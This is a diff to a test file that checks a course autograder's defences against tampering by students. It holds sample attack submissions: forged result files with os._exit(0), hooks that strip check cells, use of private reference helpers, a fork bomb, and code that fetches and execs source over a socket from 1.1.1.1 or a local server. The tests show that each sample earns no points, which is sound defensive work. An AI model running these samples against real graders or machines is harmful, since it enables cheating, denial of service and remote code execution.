@@ -6,20 +6,29 @@ file, nbformat 3, a duplicate, a file that is not UTF-8, a notebook of no exerci
 asserts one row, and fails if the defence it names is removed:
 
     set_custom_exc, _showtraceback replaced        the checks run in the grader, not in the kernel
-    AST transformer wrapping cells in try/except    grader-side checks; kernel-side ones need their end token
+    AST transformer wrapping cells in try/except    every check runs in the grader (09's and 07's too)
+    a hook that keeps only a check's end token      the same: no check cell reaches the kernel
     an object equal to everything                   only plain data crosses from the kernel
     shadowing a setup helper / patching the reference   the grader's own namespace and par
     forging the nbval report                        no report file in the kernel's reach
+    a rank forging the job's result, os._exit(0)    the grader judges the ranks' raw outputs (par.course.rank_io)
+    a collective called on the process group        counted on the ProcessGroup class (answers.on_the_wire)
+    par's own answer (formula; private ring helpers) stubbed in the sandbox's par (par.course.references)
+    a fork bomb; a helper server outside            the sandbox's process cap; its network namespace
+    the same answers from two students              flagged SAME ANSWERS, grades unchanged
     reading solutions/, writing outside, a /tmp file, a detached process, killing the grader   the sandbox
     careless submissions                            every file gets a row, nbformat 3 converted, duplicates flagged
     hidden checks in feedback                       scrubbed
     a killed grader                                 rows written as they finish; --resume grades the rest
 """
 import csv
+import os
 import signal
+import socketserver
 import subprocess
 import sys
 import tempfile
+import threading
 import time
 import uuid
 from pathlib import Path
@@ -29,7 +38,7 @@ import pytest
 from tiers import slow
 
 import test_grading as tg
-from par.course import grade, sandbox
+from par.course import exercises, grade, sandbox
 
 ROOT = Path(__file__).resolve().parents[1]
 EX = "01_model_state_bytes"
@@ -50,6 +59,7 @@ def unsolved(name=EX, cells: dict | None = None, added: list[str] = ()):
 
 
 STUB = tg.read(ROOT / "exercises" / f"{EX}.ipynb")
+FULL = grade._num(sum(exercises.points(c) for c in tg.solution(EX).cells if exercises.is_check(c)))   # its max points
 STUB_SOURCE = {c.id: c.source for c in STUB.cells}
 
 CUSTOM_EXC = "get_ipython().set_custom_exc((Exception,), lambda *a, **k: [])"
@@ -123,6 +133,85 @@ if path:
 '''
 
 
+# ---- the real-rank exercises: the ranks run the student's module (par.course.rank_io, answers.on_the_wire)
+FORGE_RING = '''%%writefile my_ring.py
+import json, os
+path = os.environ.get("PAR_RESULT")     # where the job's rank 0 saves the result the launcher returns
+if path:
+    with open(path, "w") as f:
+        json.dump({"cases": [{"numel": n, "max_error": 0.0, "in_place": True} for n in (1, 2, 5, 7, 64, 1000, 1001)],
+                   "per_rank": []}, f)
+os._exit(0)
+'''
+FORGE_TP = '''%%writefile my_tp.py
+import json, os
+path = os.environ.get("PAR_RESULT")
+if path:
+    with open(path, "w") as f:
+        json.dump({"errors": {k: 0.0 for k in ("output", "input_grad", "fc_w_grad", "fc_b_grad", "proj_w_grad",
+                                               "proj_b_grad")}, "all_reduce": {"forward": 1, "backward": 1}}, f)
+os._exit(0)
+'''
+GROUP_METHOD = '''%%writefile my_ring.py
+import torch.distributed as dist
+
+
+def ring_all_reduce(tensor):     # torch's all-reduce, reached through the process group object
+    dist.distributed_c10d._get_default_group().allreduce([tensor]).wait()
+    return tensor
+'''
+PAR_HELPERS = '''%%writefile my_ring.py
+from par.comm.collectives import _ring_all_gather, _ring_reduce_scatter, ring_neighbours
+
+
+def ring_all_reduce(tensor):     # par's own ring, from the helpers that are on no list of forbidden names
+    ring = ring_neighbours(None)
+    if ring[1] > 1:
+        _ring_reduce_scatter(tensor.view(-1), ring, None, "sum")
+        _ring_all_gather(tensor.view(-1), ring, None)
+    return tensor
+'''
+PAR_ANSWER = '''def bytes_per_param(precision, optimizer):
+    import par.memory.accounting as accounting
+    b = accounting.bytes_per_param(precision, optimizer)
+    return b.weights, b.grads, b.K
+'''
+# the old kernel-judged check of 09: a hook that keeps only the cell's last line (its end token) when it sees the check
+KEEP_THE_TOKEN = '''
+def _only_the_token(lines):
+    return lines[-1:] if any("reference.dispatch" in line for line in lines) else lines
+
+
+get_ipython().input_transformers_post.append(_only_the_token)
+'''
+FORK_BOMB = '''
+import os, time
+me = os.getpid()
+for _ in range(9):      # at most 2**9 - 1 = 511 processes, each asleep for 30 s
+    try:
+        os.fork()
+    except OSError:
+        break
+if os.getpid() != me:
+    time.sleep(30)
+    os._exit(0)
+'''
+MAX_PROCESSES = 40      # the sandbox's cap in this class (PAR_GRADE_MAX_PROCESSES)
+
+
+def from_a_server(port: int) -> str:
+    """An answer fetched from a helper outside the sandbox (a classmate's server on this machine, the web)."""
+    return f'''import socket
+for address in (("1.1.1.1", 53), ("127.0.0.1", {port})):
+    try:
+        with socket.create_connection(address, timeout=2) as s:
+            exec(s.makefile().read())
+        break
+    except OSError:
+        pass
+'''
+
+
 def outside(canary: Path, victim: Path) -> str:
     return f'''import os, pathlib, subprocess
 for target in ({str(canary)!r}, {str(victim)!r}, {str(ROOT / "solutions" / f"{EX}.ipynb")!r}):
@@ -150,7 +239,7 @@ if os.getpid() < 100:   # only ever inside a pid namespace of its own (the test 
 '''
 
 
-def build_class(folder: Path, canary: Path) -> dict:
+def build_class(folder: Path, canary: Path, port: int = 0) -> dict:
     """Write the class folder; {file name: what is expected of its row}."""
     folder.mkdir(parents=True)
     expect = {}
@@ -177,18 +266,33 @@ def build_class(folder: Path, canary: Path) -> dict:
     stub00 = next(c.source for c in ring.cells if c.get("id") == "ring-lists")
     put("replace_launch_00_ring_chunks.ipynb",
         unsolved("00_ring_chunks", cells={"ring-lists": stub00 + "\n\n" + REPLACE_LAUNCH}), points="0")
-    put(f"zz_victim_{EX}.ipynb", tg.solved(EX), points="7", status="ok")
+    put(f"zz_victim_{EX}.ipynb", tg.solved(EX), points=FULL, status="ok")
     if SANDBOX:
         escape = outside(canary, folder / f"zz_victim_{EX}.ipynb")
         put(f"aa_outside_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + escape}), points="0")
         put(f"kill_grader_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + KILL_GRADER}),
             points="0")
+    put("forge_result_00_ring_chunks.ipynb", unsolved("00_ring_chunks", cells={"ring-ranks": FORGE_RING}), points="0")
+    put("forge_result_04_tensor_parallel.ipynb", unsolved("04_tensor_parallel", cells={"f-and-g": FORGE_TP}),
+        points="0")
+    put("group_method_00_ring_chunks.ipynb", unsolved("00_ring_chunks", cells={"ring-ranks": GROUP_METHOD}),
+        points="0")
+    put("par_helpers_00_ring_chunks.ipynb", unsolved("00_ring_chunks", cells={"ring-ranks": PAR_HELPERS}),
+        **({"points": "0"} if SANDBOX else {"reason": "unsandboxed"}))
+    put(f"par_answer_{EX}.ipynb", unsolved(cells={"bytes-per-param": PAR_ANSWER}),
+        **({"points": "0"} if SANDBOX else {"reason": "unsandboxed"}))
+    put("keep_the_token_09_expert_dispatch.ipynb",
+        unsolved("09_expert_dispatch", cells={"dispatch-buffer": stub09 + "\n\n" + KEEP_THE_TOKEN}), points="0")
+    if SANDBOX:
+        put(f"fork_bomb_{EX}.ipynb", unsolved(cells={"bytes-per-param": bpp + "\n\n" + FORK_BOMB}), points="0",
+            status="error")
+        put(f"network_{EX}.ipynb", unsolved(cells={"bytes-per-param": from_a_server(port)}), points="0")
     # careless
     (folder / "my_answers.py").write_text("def bytes_per_param(p, o):\n    return 4, 4, 8\n")
     expect["my_answers.py"] = {"status": "error", "reason": "not a notebook file"}
     old = nbformat.writes(nbformat.convert(tg.solved(EX), 3), version=3)
     (folder / f"v3_{EX}.ipynb").write_text(old)
-    expect[f"v3_{EX}.ipynb"] = {"status": "ok", "points": "7"}
+    expect[f"v3_{EX}.ipynb"] = {"status": "ok", "points": FULL}
     (folder / "bob").mkdir()
     nbformat.write(tg.solved(EX), folder / "bob" / f"{EX}.ipynb")
     nbformat.write(STUB, folder / "bob" / f"{EX} (1).ipynb")
@@ -207,20 +311,40 @@ def graded(tmp_path_factory):
     canary = tmp / "canary.txt"
     canary.write_text("the instructor's file")
     folder = tmp / "class"
-    expect = build_class(folder, canary)
+    server = socketserver.TCPServer(("127.0.0.1", 0), _Answers)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    expect = build_class(folder, canary, server.server_address[1])
     report, feedback = tmp / "out" / "grades.csv", tmp / "out" / "feedback"
     start = time.monotonic()
-    run = subprocess.run([sys.executable, "-m", "par", "grade", str(folder), "--report", str(report), "--feedback",
-                          str(feedback), "--timeout", "240", "--cell-timeout", "60", "--jobs", "2"],
-                         capture_output=True, text=True, timeout=600, cwd=ROOT)
+    try:
+        cmd = [sys.executable, "-m", "par", "grade", str(folder), "--report", str(report), "--feedback", str(feedback),
+               "--timeout", "240", "--cell-timeout", "60", "--jobs", "2"]
+        grader = subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, cwd=ROOT,
+                                  env={**os.environ, "PAR_GRADE_MAX_PROCESSES": str(MAX_PROCESSES)})
+        out, err = grader.communicate(timeout=600)
+        run = subprocess.CompletedProcess(cmd, grader.returncode, out, err)
+    finally:
+        server.shutdown()
+        server.server_close()
     print(f"\ntamper class: {len(expect)} files in {time.monotonic() - start:.0f} s")
     assert run.returncode == 0, run.stdout[-3000:] + run.stderr[-3000:]
     rows = {str(Path(r["submission"]).relative_to(folder)): r for r in csv.DictReader(report.open())}
-    return {"rows": rows, "expect": expect, "canary": canary, "folder": folder, "feedback": feedback, "run": run}
+    return {"rows": rows, "expect": expect, "canary": canary, "folder": folder, "feedback": feedback, "run": run,
+            "served": _Answers.served, "grader": grader.pid}
+
+
+class _Answers(socketserver.StreamRequestHandler):
+    """A helper outside the sandbox that hands out the solution of 01's first answer."""
+    served = []
+
+    def handle(self):
+        _Answers.served.append(1)
+        source = next(c.source for c in tg.solution(EX).cells if c.get("id") == "bytes-per-param")
+        self.wfile.write(source.encode())
 
 
 TECHNIQUES = ["custom_exc", "showtraceback", "ast_wrap", "ast_wrap_kernel_check", "anything", "shadow_helper",
-              "patch_reference", "read_solutions", "forge_report", "replace_launch"]
+              "patch_reference", "read_solutions", "forge_report", "replace_launch", "keep_the_token"]
 
 
 def row_of(graded, prefix):
@@ -238,13 +362,84 @@ def test_tampering_in_the_kernel_earns_nothing(graded, technique):
     name, row = row_of(graded, technique)
     assert row["points"] == graded["expect"][name]["points"] == "0", row
     assert row["status"] in ("failed", "error"), row
-    if technique == "ast_wrap_kernel_check":   # the kernel-side check ran to "ok" but without its end token
-        assert "check-dispatch-buffer" in row["failed_checks"]
+    if technique in ("ast_wrap_kernel_check", "keep_the_token"):   # 09's check runs in the grader now: the stub
+        assert "check-dispatch-buffer" in row["failed_checks"]      # raised, whatever the kernel's hooks did
+        assert "NotImplementedError" in feedback_line(graded, name, "check-dispatch-buffer")
     if technique == "replace_launch":          # the grader launched the ranks: the stub failed on a rank
         assert "check-ring-ranks" in row["failed_checks"]
         feedback = next(graded["feedback"].glob(f"*{name.replace('.ipynb', '')}*.txt")).read_text()
         line = next(line for line in feedback.splitlines() if "check-ring-ranks" in line)
         assert "NotImplementedError: your code here (rank" in line, line
+
+
+def feedback_line(graded, name: str, check: str) -> str:
+    feedback = next(graded["feedback"].glob(f"*{name.replace('.ipynb', '')}*.txt")).read_text()
+    return next(line for line in feedback.splitlines() if check in line)
+
+
+@slow
+@pytest.mark.timeout(600)
+@pytest.mark.parametrize("technique, check", [("forge_result_00_ring_chunks", "check-ring-ranks"),
+                                              ("forge_result_04_tensor_parallel", "check-tp-forward")])
+def test_a_result_forged_on_a_rank_earns_nothing(graded, technique, check):
+    """The ranks write the job's result file and exit 0 before any work: the grader judges raw outputs only."""
+    row = graded["rows"][f"{technique}.ipynb"]
+    assert row["points"] == "0" and check in row["failed_checks"], row
+    assert "inf" in feedback_line(graded, f"{technique}.ipynb", check), "no output counts as wrong, never as right"
+
+
+@slow
+@pytest.mark.timeout(600)
+def test_a_collective_called_on_the_process_group_object_is_caught(graded):
+    row = graded["rows"]["group_method_00_ring_chunks.ipynb"]
+    assert row["points"] == "0" and "check-ring-ranks" in row["failed_checks"], row
+    assert "ProcessGroup.allreduce" in feedback_line(graded, "group_method_00_ring_chunks.ipynb", "check-ring-ranks")
+
+
+@slow
+@needs_sandbox
+@pytest.mark.timeout(600)
+@pytest.mark.parametrize("technique, check", [(f"par_answer_{EX}", "check-bytes-per-param"),
+                                              ("par_helpers_00_ring_chunks", "check-ring-ranks")])
+def test_par_s_own_answers_are_not_available_to_a_submission(graded, technique, check):
+    """01's formula from par.memory in the kernel; 00's ring from par.comm's private helpers on the ranks."""
+    row = graded["rows"][f"{technique}.ipynb"]
+    assert row["points"] == "0" and check in row["failed_checks"], row
+    assert "not available during grading" in feedback_line(graded, f"{technique}.ipynb", check)
+
+
+@slow
+@needs_sandbox
+@pytest.mark.timeout(600)
+def test_a_fork_bomb_is_stopped_and_the_batch_goes_on(graded):
+    row = graded["rows"][f"fork_bomb_{EX}.ipynb"]
+    assert (row["points"], row["status"]) == ("0", "error"), row
+    assert f"more than {MAX_PROCESSES} processes" in row["reason"], row
+    assert float(row["seconds"]) < 60, "stopped at once, not at the cell timeout"
+    mine = f"{sandbox.PREFIX}{graded['grader']}-".encode()      # the batch's kernels work in folders named after it
+    alive = [p for p in Path("/proc").iterdir() if p.name.isdigit() and mine in _cmdline(p)]
+    assert not alive and len(graded["rows"]) == len(graded["expect"])
+
+
+@slow
+@needs_sandbox
+@pytest.mark.timeout(600)
+def test_a_submission_reaches_no_network(graded):
+    """Its answer is served on 127.0.0.1 outside the sandbox (and 1.1.1.1 is tried): it reaches neither."""
+    row = graded["rows"][f"network_{EX}.ipynb"]
+    assert row["points"] == "0", row
+    assert not graded["served"], "the helper outside the sandbox was reached"
+
+
+@slow
+@pytest.mark.timeout(600)
+def test_the_same_answers_from_different_students_are_flagged(graded):
+    rows = graded["rows"]
+    victim, v3 = rows[f"zz_victim_{EX}.ipynb"], rows[f"v3_{EX}.ipynb"]
+    assert victim["status"] == "ok" and victim["points"] == victim["max_points"], victim
+    assert "SAME ANSWERS" in victim["reason"], victim
+    assert f"zz_victim_{EX}.ipynb" in v3["reason"], v3
+    assert "SAME ANSWERS" not in rows[f"bob/{EX} (1).ipynb"]["reason"], "unanswered stubs are nobody's answers"
 
 
 @slow
@@ -255,7 +450,7 @@ def test_the_sandbox_keeps_the_submission_inside_and_ends_it(graded):
     assert row["points"] == "0"
     assert graded["canary"].read_text() == "the instructor's file"
     victim = graded["rows"][f"zz_victim_{EX}.ipynb"]
-    assert (victim["status"], victim["points"]) == ("ok", "7"), victim
+    assert (victim["status"], victim["points"]) == ("ok", FULL), victim
     assert "overwritten" not in (graded["folder"] / f"zz_victim_{EX}.ipynb").read_text()
     assert "overwritten" not in (ROOT / "solutions" / f"{EX}.ipynb").read_text()
     assert not Path(f"/tmp/par-tamper-{MARK}").exists(), "a /tmp file outlived its submission"
@@ -355,3 +550,45 @@ def test_a_checkout_and_venv_under_tmp_stay_visible_in_the_sandbox(monkeypatch, 
     binds = [i for i, a in enumerate(args) if a in ("--ro-bind", "--bind") and args[i + 1].startswith("/tmp/")]
     assert {args[i + 1] for i in binds} >= {venv, "/tmp/some-checkout", str(tmp_path)}
     assert all(i > private_tmp for i in binds), "a bind under /tmp placed before the private /tmp is hidden by it"
+
+
+def test_same_answers_are_flagged_by_content_without_a_kernel(tmp_path):
+    course = grade.load_course()
+    solved = tg.solved(EX)
+    commented = tg.solved(EX)
+    for cell in commented.cells:
+        if cell.get("id") == "bytes-per-param":
+            cell.source = "# my own work\n\n" + cell.source.replace("\n", "  \n")
+    for name, nb in (("alice", solved), ("bob", commented), ("carol", STUB), ("dan", STUB)):
+        (tmp_path / name).mkdir()
+        nbformat.write(nb, tmp_path / name / f"{EX}.ipynb")
+    flags = grade.duplicates(sorted(tmp_path.rglob("*.ipynb")), course)
+    assert set(flags) == {tmp_path / "alice" / f"{EX}.ipynb", tmp_path / "bob" / f"{EX}.ipynb"}, flags
+    assert flags[tmp_path / "alice" / f"{EX}.ipynb"].startswith("SAME ANSWERS") and "bob" in \
+        flags[tmp_path / "alice" / f"{EX}.ipynb"]
+
+
+@needs_sandbox
+def test_the_sandbox_caps_processes_and_has_no_network(tmp_path):
+    """Without a kernel: a fork loop in a sandbox is killed at the cap; a server outside it cannot be reached."""
+    box = sandbox.Sandbox.create(tmp_path, sandboxed=True)
+    fork = ("import os, time\nfor _ in range(200):\n    if os.fork() == 0:\n        time.sleep(30)\n        os._exit(0)\n"
+            "time.sleep(30)\n")
+    start = time.monotonic()
+    proc = subprocess.Popen(box.wrap([sys.executable, "-c", fork]), cwd=tmp_path, env=box.env(),
+                            start_new_session=True)
+    cap = sandbox.ProcessCap(proc, sandboxed=True, limit=20)
+    try:
+        proc.wait(timeout=30)
+    finally:
+        proc.kill()        # bwrap: its pid namespace goes with it
+    assert cap.tripped and time.monotonic() - start < 20, "killed at the cap, not when it ended by itself"
+    server = socketserver.TCPServer(("127.0.0.1", 0), socketserver.StreamRequestHandler)
+    try:
+        connect = (f"import socket\ntry:\n    socket.create_connection(('127.0.0.1', {server.server_address[1]}), "
+                   f"timeout=2)\n    print('reached')\nexcept OSError as e:\n    print('refused', e)\n")
+        out = subprocess.run(box.wrap([sys.executable, "-c", connect]), cwd=tmp_path, env=box.env(),
+                             capture_output=True, text=True, timeout=60).stdout
+    finally:
+        server.server_close()
+    assert out.startswith("refused"), out
